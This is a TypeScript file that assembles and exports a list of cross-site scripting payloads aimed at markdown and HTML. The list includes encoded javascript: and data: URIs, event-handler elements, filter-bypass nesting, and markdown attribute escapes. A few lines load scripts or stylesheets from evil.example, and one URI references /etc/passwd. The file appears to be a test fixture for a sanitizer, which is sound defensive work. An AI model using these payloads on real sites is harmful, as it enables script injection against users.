const act = 'alert(1)'

const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  ` javascript:${act}`,
  `javascript&colon;${act}`,
  `&#106;avascript:${act}`,
  `&#x6A;&#x61;vascript:${act}`,
  `java%0ascript:${act}`,
  `javascript://example.com/%0a${act}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${act}>`,
  `blob:https://example.com/1`,
  `file:///etc/passwd`,
  `x:${act}`,
]

const places = [
  (address: string) => `[click](${address})`,
  (address: string) => `[click](<${address}>)`,
  (address: string) => `![look](${address})`,
  (address: string) => `[click][here]\n\n[here]: ${address}`,
]

const elements = [
  `<script>${act}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<img src=x onerror=${act}>`,
  `<img src="x" onerror="${act}"/>`,
  `<img/src=x/onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<body onload=${act}>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<a href="javascript:${act}">click</a>`,
  `<a href="x" onclick="${act}">click</a>`,
  `<form action="javascript:${act}"><button>go</button></form>`,
  `<button formaction="javascript:${act}">go</button>`,
  `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}></select>`,
  `<textarea autofocus onfocus=${act}></textarea>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}>`,
  `<details open ontoggle=${act}>`,
  `<marquee onstart=${act}>`,
  `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  `<style>@import 'javascript:${act}';</style>`,
  `<div style="background:url(javascript:${act})">x</div>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  `<base href="https://evil.example/">`,
  `<template><script>${act}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
  `<!--><img src=x onerror=${act}>-->`,
  `<![CDATA[<script>${act}</script>]]>`,
]

const escapes = [
  `[a](https://example.com "\\" onmouseover=${act} x=\\"")`,
  `![" onerror="${act}](https://img.example.com/a.png)`,
  `| <img src=x onerror=${act}> |\n|---|\n| \`<script>${act}</script>\` |`,
  `\`\`\`html onload=${act}\n<script>${act}</script>\n\`\`\``,
  `<https://example.com/"onmouseover="${act}>`,
]

export const payloads = [
  ...places.flatMap((place) => addresses.map((address) => place(address))),
  ...elements,
  ...escapes,
]
